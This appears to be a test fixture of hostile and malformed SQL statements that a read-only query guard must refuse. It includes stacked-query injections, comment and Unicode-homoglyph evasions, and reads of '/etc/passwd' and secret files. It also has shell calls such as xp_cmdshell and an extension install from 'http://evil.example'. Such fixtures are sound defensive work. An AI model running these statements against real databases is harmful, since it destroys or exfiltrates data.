-- Hostile and malformed statements: every one must be refused by the SQL guard.
-- Entries are separated by a line holding only '-- ----'; an entry may span lines
-- and contain semicolons and comments. Generated inputs (NUL bytes, huge and deeply
-- nested SQL) live in tests/test_guard.py.
-- ----
SELECT 1; DELETE FROM sentinel
-- ----
SELECT 1;DROP TABLE sentinel
-- ----
SELECT * FROM customers; UPDATE customers SET age = 0 WHERE TRUE
-- ----
SELECT 1; INSERT INTO sentinel VALUES (2, 'x')
-- ----
SELECT 1 ; ; DELETE FROM sentinel
-- ----
SELECT 1;
DROP TABLE customers;
-- ----
select 1; truncate table sentinel
-- ----
SELECT 'a;b'; DELETE FROM sentinel
-- ----
SELECT """x;y"""; DROP TABLE sentinel
-- ----
SELECT 1; CREATE TABLE evil AS SELECT 1 AS x
-- ----
SELECT 1; ATTACH 'canary.duckdb' AS c
-- ----
SELECT 1; COPY sentinel TO 'out.csv'
-- ----
SELECT 1; PRAGMA database_list
-- ----
SELECT 1; SET enable_external_access = true
-- ----
SELECT 1; INSTALL httpfs
-- ----
SELECT 1; LOAD httpfs
-- ----
SELECT 1; CALL dbgen(sf = 0.01)
-- ----
SELECT 1; CHECKPOINT
-- ----
SELECT 1; EXPORT DATABASE 'outdir'
-- ----
SELECT 1; BEGIN TRANSACTION; DELETE FROM sentinel; COMMIT
-- ----
WITH x AS (SELECT 1) SELECT * FROM x; DELETE FROM sentinel
-- ----
SELECT 1 UNION ALL SELECT 2; DROP TABLE sentinel
-- ----
SELECT * FROM sentinel; SELECT * FROM customers
-- ----
-- just a comment
DELETE FROM sentinel
-- ----
/* SELECT 1 */ DELETE FROM sentinel
-- ----
# SELECT
DELETE FROM sentinel
-- ----
SELECT 1 -- ;
; DELETE FROM sentinel
-- ----
SELECT 1 /* ; */ ; DELETE FROM sentinel
-- ----
SELECT 1 /* comment */; /* another */ DROP TABLE sentinel
-- ----
SELECT /* DELETE FROM sentinel */ 1; DELETE FROM sentinel
-- ----
/* */DELETE/* */FROM/* */sentinel/* */WHERE/* */TRUE
-- ----
--
UPDATE sentinel SET note = 'owned' WHERE TRUE
-- ----
#!/bin/sh
DELETE FROM sentinel WHERE TRUE
-- ----
SELECT 1 # trailing
; DROP TABLE sentinel
-- ----
SELECT 1 /* nested /* comment */ */ ; DROP TABLE sentinel
-- ----
DELETE /* SELECT */ FROM sentinel WHERE TRUE
-- ----
INSERT INTO sentinel /* harmless */ SELECT 3, 'x'
-- ----
MERGE sentinel t USING (SELECT 1 AS id) s ON t.id = s.id WHEN MATCHED THEN DELETE
-- ----
/*+ hint */ DELETE FROM sentinel WHERE TRUE
-- ----
SELECT 1 --
DROP TABLE sentinel
-- ----
SELECT 1 -- x */ ; DROP TABLE sentinel; /*
, 2; DROP TABLE sentinel
-- ----
DELETE sentinel WHERE TRUE
-- ----
UPDATE sentinel SET note = NULL WHERE TRUE
-- ----
INSERT INTO sentinel SELECT * FROM sentinel
-- ----
INSERT sentinel (id, note) VALUES (5, 'x')
-- ----
REPLACE INTO sentinel VALUES (1, 'x')
-- ----
INSERT OR REPLACE INTO sentinel VALUES (1, 'x')
-- ----
WITH d AS (DELETE FROM sentinel RETURNING *) SELECT * FROM d
-- ----
WITH i AS (INSERT INTO sentinel VALUES (9, 'x') RETURNING id) SELECT * FROM i
-- ----
WITH u AS (UPDATE sentinel SET note = 'x' RETURNING *) SELECT 1
-- ----
WITH m AS (MERGE INTO sentinel USING customers ON FALSE WHEN NOT MATCHED THEN INSERT (id, note) VALUES (1, 'a')) SELECT 1
-- ----
WITH x AS (SELECT 1) DELETE FROM sentinel WHERE id IN (SELECT * FROM x)
-- ----
WITH x AS (SELECT 1) INSERT INTO sentinel SELECT 5, 'x' FROM x
-- ----
WITH x AS (SELECT 1) UPDATE sentinel SET note = 'y' WHERE TRUE
-- ----
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 3)
DELETE FROM sentinel WHERE TRUE
-- ----
SELECT * FROM (DELETE FROM sentinel RETURNING *)
-- ----
SELECT (DELETE FROM sentinel RETURNING id)
-- ----
INSERT INTO sentinel WITH x AS (SELECT 7 AS id, 'x' AS note) SELECT * FROM x
-- ----
WITH x AS (SELECT 1 AS id)
MERGE sentinel USING x ON FALSE WHEN NOT MATCHED THEN INSERT (id, note) VALUES (1, 'a')
-- ----
SELECT * FROM customers WHERE customer_id IN (DELETE FROM sentinel RETURNING id)
-- ----
EXPORT DATA OPTIONS(uri='gs://bucket/out-*.csv', format='CSV') AS SELECT * FROM customers
-- ----
EXPORT DATA WITH CONNECTION `us.conn` OPTIONS(uri='gs://b/*.csv', format='CSV') AS SELECT 1
-- ----
EXPORT DATA OPTIONS(uri='out-*.csv', format='CSV', overwrite=true) AS
SELECT email FROM customers
-- ----
LOAD DATA INTO cymbal.sentinel FROM FILES(format='CSV', uris=['gs://b/x.csv'])
-- ----
LOAD DATA OVERWRITE cymbal.customers FROM FILES(format='CSV', uris=['secret.csv'])
-- ----
EXPORT DATABASE 'outdir'
-- ----
EXPORT MODEL cymbal.m OPTIONS(URI='gs://b/m')
-- ----
IMPORT DATABASE 'outdir'
-- ----
DECLARE x INT64 DEFAULT 1
-- ----
DECLARE x INT64; SET x = 1; SELECT x
-- ----
SET @@dataset_id = 'other'
-- ----
SET x = (SELECT 1)
-- ----
SET enable_external_access = true
-- ----
SET lock_configuration = false
-- ----
RESET ALL
-- ----
BEGIN SELECT 1; END
-- ----
BEGIN
  DELETE FROM sentinel WHERE TRUE;
END
-- ----
BEGIN TRANSACTION
-- ----
COMMIT
-- ----
ROLLBACK
-- ----
IF TRUE THEN DELETE FROM sentinel WHERE TRUE; END IF
-- ----
LOOP DELETE FROM sentinel WHERE TRUE; LEAVE; END LOOP
-- ----
WHILE TRUE DO SELECT 1; END WHILE
-- ----
REPEAT SELECT 1; UNTIL TRUE END REPEAT
-- ----
FOR r IN (SELECT 1 AS x) DO SELECT r.x; END FOR
-- ----
EXECUTE IMMEDIATE 'DELETE FROM sentinel WHERE TRUE'
-- ----
EXECUTE IMMEDIATE CONCAT('DROP ', 'TABLE sentinel')
-- ----
EXECUTE IMMEDIATE 'SELECT ?' USING 1
-- ----
EXECUTE p
-- ----
PREPARE p AS DELETE FROM sentinel
-- ----
CALL cymbal.proc()
-- ----
CALL BQ.REFRESH_MATERIALIZED_VIEW('cymbal.mv')
-- ----
CALL dbgen(sf = 1)
-- ----
CALL pragma_table_info('sentinel')
-- ----
RAISE USING MESSAGE = 'x'
-- ----
ASSERT (SELECT COUNT(*) FROM customers) > 0 AS 'ok'
-- ----
RETURN
-- ----
BREAK
-- ----
CASE WHEN TRUE THEN DELETE FROM sentinel WHERE TRUE; END CASE
-- ----
CREATE TABLE evil (x INT64)
-- ----
CREATE OR REPLACE TABLE customers AS SELECT 1 AS x
-- ----
CREATE TEMP TABLE t AS SELECT * FROM customers
-- ----
CREATE TEMP FUNCTION f(x INT64) AS (x + 1); SELECT f(1)
-- ----
CREATE TEMPORARY FUNCTION f() RETURNS STRING LANGUAGE js AS 'return 1';
SELECT f()
-- ----
CREATE FUNCTION cymbal.f(x INT64) AS (x)
-- ----
CREATE VIEW v AS SELECT * FROM customers
-- ----
CREATE MATERIALIZED VIEW mv AS SELECT 1 AS x
-- ----
CREATE SCHEMA evil
-- ----
CREATE MODEL cymbal.m OPTIONS(model_type='kmeans') AS SELECT age FROM customers
-- ----
CREATE PROCEDURE cymbal.p() BEGIN DELETE FROM sentinel WHERE TRUE; END
-- ----
CREATE SEQUENCE s
-- ----
CREATE MACRO m(x) AS x + 1
-- ----
CREATE INDEX i ON sentinel (id)
-- ----
CREATE SECRET s (TYPE S3, KEY_ID 'x', SECRET 'y')
-- ----
CREATE TYPE mood AS ENUM ('a', 'b')
-- ----
DROP TABLE sentinel
-- ----
DROP TABLE IF EXISTS customers
-- ----
DROP SCHEMA cymbal CASCADE
-- ----
DROP VIEW v
-- ----
DROP FUNCTION f
-- ----
ALTER TABLE sentinel ADD COLUMN x INT64
-- ----
ALTER TABLE sentinel RENAME TO gone
-- ----
ALTER TABLE customers DROP COLUMN email
-- ----
ALTER TABLE customers ALTER COLUMN age SET DATA TYPE STRING
-- ----
TRUNCATE TABLE sentinel
-- ----
TRUNCATE sentinel
-- ----
COMMENT ON TABLE sentinel IS 'x'
-- ----
GRANT SELECT ON customers TO 'x'
-- ----
REVOKE SELECT ON customers FROM 'x'
-- ----
UNDROP SCHEMA cymbal
-- ----
VACUUM
-- ----
ANALYZE
-- ----
DETACH main
-- ----
USE other
-- ----
DESCRIBE customers
-- ----
SHOW TABLES
-- ----
SUMMARIZE customers
-- ----
EXPLAIN SELECT 1
-- ----
EXPLAIN ANALYZE DELETE FROM sentinel
-- ----
SELECT * INTO evil FROM customers
-- ----
SELECT 1 AS x INTO TEMP t
-- ----
SELECT * INTO OUTFILE 'out.csv' FROM sentinel
-- ----
SELECT * FROM sentinel INTO 'out.csv'
-- ----
SELECT * FROM read_csv('secret.csv')
-- ----
SELECT * FROM read_csv_auto('secret.csv')
-- ----
SELECT * FROM read_parquet('secret.parquet')
-- ----
SELECT * FROM parquet_scan('secret.parquet')
-- ----
SELECT * FROM read_json('secret.json')
-- ----
SELECT * FROM read_json_auto('secret.json')
-- ----
SELECT * FROM read_ndjson('secret.json')
-- ----
SELECT * FROM read_text('secret.txt')
-- ----
SELECT content FROM read_text('/etc/passwd')
-- ----
SELECT * FROM read_blob('secret.txt')
-- ----
SELECT read_text('secret.txt')
-- ----
SELECT (SELECT content FROM read_text('secret.txt'))
-- ----
SELECT * FROM customers WHERE email IN (SELECT content FROM read_text('secret.txt'))
-- ----
SELECT * FROM 'secret.csv'
-- ----
SELECT * FROM "secret.csv"
-- ----
SELECT * FROM `secret.csv`
-- ----
SELECT * FROM `/etc/passwd`
-- ----
SELECT * FROM `secret.parquet`
-- ----
SELECT * FROM './secret.csv'
-- ----
SELECT * FROM `s3://bucket/x.parquet`
-- ----
SELECT * FROM `https://example.com/x.csv`
-- ----
SELECT * FROM query('SELECT * FROM sentinel')
-- ----
SELECT * FROM query_table('sentinel')
-- ----
SELECT * FROM query_table(['sentinel', 'customers'])
-- ----
SELECT * FROM glob('*')
-- ----
SELECT * FROM glob('/etc/*')
-- ----
SELECT getenv('HOME')
-- ----
SELECT current_setting('enable_external_access')
-- ----
SELECT * FROM duckdb_settings()
-- ----
SELECT * FROM duckdb_tables()
-- ----
SELECT * FROM duckdb_secrets()
-- ----
SELECT * FROM pragma_table_info('sentinel')
-- ----
SELECT * FROM sniff_csv('secret.csv')
-- ----
SELECT * FROM parquet_metadata('secret.parquet')
-- ----
SELECT * FROM sqlite_scan('x.db', 'tbl')
-- ----
SELECT * FROM postgres_scan('host=localhost', 'public', 't')
-- ----
SELECT * FROM read_csv(['secret.csv', 'secret.csv'])
-- ----
SELECT * FROM customers, read_csv('secret.csv')
-- ----
SELECT * FROM customers JOIN read_csv('secret.csv') ON TRUE
-- ----
SELECT * FROM (SELECT * FROM read_csv('secret.csv'))
-- ----
WITH f AS (SELECT * FROM read_csv('secret.csv')) SELECT * FROM f
-- ----
SELECT * FROM customers UNION ALL SELECT * FROM read_csv('secret.csv')
-- ----
WITH customers AS (SELECT * FROM read_csv('secret.csv')) SELECT * FROM customers
-- ----
SELECT * FROM customers, LATERAL (SELECT * FROM read_csv('secret.csv'))
-- ----
SELECT * FROM customers WHERE EXISTS (SELECT * FROM read_csv('secret.csv'))
-- ----
SELECT ARRAY(SELECT content FROM read_text('secret.txt'))
-- ----
SELECT * FROM UNNEST((SELECT ARRAY_AGG(content) FROM read_text('secret.txt')))
-- ----
SELECT * FROM customers WHERE age > (SELECT COUNT(*) FROM glob('*'))
-- ----
SELECT `read_text`('secret.txt')
-- ----
SELECT SAFE.read_text('secret.txt')
-- ----
SELECT customers.read_text('secret.txt') FROM customers
-- ----
SELECT * FROM customers TABLESAMPLE SYSTEM (read_text('secret.txt'))
-- ----
SELECT * FROM customers QUALIFY ROW_NUMBER() OVER (ORDER BY (SELECT getenv('HOME'))) = 1
-- ----
ATTACH 'canary.duckdb' AS c
-- ----
ATTACH 'canary.duckdb' AS c (READ_ONLY); SELECT * FROM c.main.t
-- ----
ATTACH DATABASE 'canary.duckdb' AS c
-- ----
DETACH c
-- ----
COPY sentinel TO 'out.csv'
-- ----
COPY (SELECT * FROM customers) TO 'out.parquet' (FORMAT PARQUET)
-- ----
COPY sentinel FROM 'secret.csv'
-- ----
COPY FROM DATABASE memory TO main
-- ----
PRAGMA enable_profiling
-- ----
PRAGMA show_tables
-- ----
PRAGMA threads = 1
-- ----
INSTALL httpfs
-- ----
LOAD httpfs
-- ----
LOAD 'secret.so'
-- ----
FORCE INSTALL httpfs FROM 'http://evil.example'
-- ----
SELECT * FROM canary.main.t
-- ----
SELECT * FROM main.sentinel
-- ----
SELECT * FROM memory.main.sentinel
-- ----
SELECT * FROM temp.main.x
-- ----
SELECT * FROM system.main.duckdb_tables
-- ----
SELECT nextval('s')
-- ----
SELECT setseed(0.5)
-- ----
SELECT sleep_ms(100000)
-- ----
SELECT * FROM range(10)
-- ----
SELECT * FROM generate_series(1, 10)
-- ----
SELECT * FROM json_execute_serialized_sql('x')
-- ----
SELECT * FROM test_all_types()
-- ----
SELECT * FROM which_secret('s3://x', 's3')
-- ----
SELECT CURRENT_USER()
-- ----
SELECT @@project_id
-- ----
SELECT * FROM customers WHERE customer_id = @id
-- ----
SELECT * FROM customers WHERE customer_id = ?
-- ----
SELECT * FROM sentinel WHERE id = 1 FOR UPDATE
-- ----
SELECT * FROM ML.PREDICT(MODEL `cymbal.m`, TABLE cymbal.customers)
-- ----
SELECT * FROM ML.GENERATE_TEXT(MODEL `cymbal.gemini`, (SELECT 'hi' AS prompt))
-- ----
SELECT ml_generate_text_llm_result
FROM ML.GENERATE_TEXT(MODEL cymbal.gemini, TABLE cymbal.customer_reviews,
                      STRUCT(TRUE AS flatten_json_output))
-- ----
SELECT * FROM ML.GENERATE_EMBEDDING(MODEL cymbal.emb, TABLE cymbal.customer_reviews)
-- ----
SELECT * FROM ML.EVALUATE(MODEL cymbal.m)
-- ----
SELECT * FROM ML.FORECAST(MODEL cymbal.m, STRUCT(7 AS horizon))
-- ----
SELECT * FROM ML.TRANSLATE(MODEL cymbal.t, TABLE cymbal.customer_reviews,
  STRUCT('translate_text' AS translate_mode, 'ko' AS target_language_code))
-- ----
SELECT * FROM EXTERNAL_QUERY('us.conn', 'SELECT * FROM users')
-- ----
SELECT EXTERNAL_QUERY('us.conn', 'SELECT 1')
-- ----
SELECT AI.GENERATE('Summarize', connection_id => 'us.conn')
-- ----
SELECT AI.GENERATE_BOOL(('Is it negative? ', review_text), connection_id => 'us.conn')
FROM customer_reviews
-- ----
SELECT * FROM AI.FORECAST(TABLE cymbal.orders, data_col => 'quantity', timestamp_col => 'order_datetime')
-- ----
SELECT AI.CLASSIFY(review_text, ['good', 'bad']) FROM customer_reviews
-- ----
SELECT * FROM VECTOR_SEARCH(TABLE cymbal.embeddings, 'embedding', (SELECT [1.0] AS embedding))
-- ----
SELECT AI_GENERATE('x')
-- ----
SELECT GENERATE_TEXT('x')
-- ----
SELECT * FROM OBJ.FETCH_METADATA(TABLE cymbal.images)
-- ----
SELECT KEYS.NEW_KEYSET('AEAD_AES_GCM_256')
-- ----
SELECT NET.HOST('http://x')
-- ----
SELECT SESSION_USER()
-- ----
SELECT * FROM INFORMATION_SCHEMA.TABLES
-- ----
SELECT * FROM cymbal.INFORMATION_SCHEMA.COLUMNS
-- ----
SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS
-- ----
SELECT * FROM `region-us.INFORMATION_SCHEMA.JOBS_BY_PROJECT`
-- ----
SELECT * FROM information_schema.columns
-- ----
SELECT * FROM other_dataset.customers
-- ----
SELECT * FROM `bigquery-public-data.thelook_ecommerce.order_items`
-- ----
SELECT * FROM bigquery-public-data.samples.shakespeare
-- ----
SELECT * FROM cymbal_backup.customers
-- ----
SELECT * FROM `cymbal`.`secret_table`
-- ----
SELECT * FROM `cymbal.customers*` WHERE _TABLE_SUFFIX = ''
-- ----
SELECT * FROM customers FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 HOUR)
-- ----
SELECT * FROM cymbal.customers FOR SYSTEM_TIME AS OF '2024-01-01'
-- ----
SELECT * FROM customers AS OF TIMESTAMP '2020-01-01'
-- ----
SELECT * FROM APPENDS(TABLE cymbal.customers, NULL, NULL)
-- ----
SELECT * FROM CHANGES(TABLE cymbal.customers, NULL, NULL)
-- ----
SELECT * FROM `cymbal.customers@-3600000`
-- ----
SELECT system('ls')
-- ----
SELECT pg_read_file('/etc/passwd')
-- ----
SELECT load_file('/etc/passwd')
-- ----
SELECT LOAD_EXTENSION('x')
-- ----
SELECT xp_cmdshell('dir')
-- ----
SELECT eval('1')
-- ----
SELECT exec('DROP TABLE sentinel')
-- ----
SELECT cymbal.my_udf(1)
-- ----
SELECT `cymbal.my_udf`(age) FROM customers
-- ----
SELECT my_udf(age) FROM customers
-- ----
SELECT printf('%s', 'x')
-- ----
SELECT strftime(CURRENT_DATE(), '%Y')
-- ----
SELECT DATEDIFF(day, review_datetime, review_datetime) FROM customer_reviews
-- ----
SELECT 1；DELETE FROM sentinel
-- ----
SELECT 1‮; DROP TABLE sentinel
-- ----
SELECT 1⁦ FROM customers
-- ----
SELECT 1; DROP TABLE sentinel
-- ----
SELECT 1 /*[2J*/
-- ----
SELECT 'a'
-- ----
ＤＥＬＥＴＥ ＦＲＯＭ sentinel
-- ----
SELECT * FROM ｃｕｓｔｏｍｅｒｓ
-- ----
SELECT * FROM сustomers
-- ----
SELECT ａｇｅ FROM customers
-- ----
SELECT * FROM customers​
-- ----
DELеTE FROM sentinel
-- ----
SELECT 1 DROP TABLE sentinel
-- ----
SELECT * FROM sentinel; DROP TABLE sentinel
-- ----
SELECT 'unterminated
-- ----
SELECT "unterminated
-- ----
SELECT `unterminated
-- ----
SELECT 1 /* unterminated comment
-- ----
SELECT ''' unterminated triple
-- ----
SELECT r'unterminated
-- ----
SELECT (1
-- ----
SELECT 1)
-- ----
SELECT * FROM
-- ----
SELECT FROM WHERE
-- ----
)))))
-- ----
;
-- ----
;;;;
-- ----
SELECT * FROM customers WHERE
-- ----
SELECT CAST(1 AS)
-- ----
SELECT 1 +
-- ----
SELECT CASE WHEN
-- ----
SELECT [1, 2
-- ----
SELECT STRUCT(
-- ----
SELECT * FROM customers LIMIT
-- ----
DELETE
-- ----
DROP
-- ----
VALUES (1)
-- ----
'just a string'
-- ----
42
-- ----
NULL
-- ----
SELECT * FROM customers WHERE 1=1 UNION ALL DELETE FROM sentinel
-- ----
SELECT (SELECT 1; DELETE FROM sentinel)
-- ----
SELECT nope FROM customers
-- ----
SELECT * FROM nope
-- ----
SELECT c.rating FROM customers c JOIN customer_reviews r USING (customer_id)
-- ----
SELECT customer_id, product_id FROM customer_reviews JOIN orders USING (customer_id)
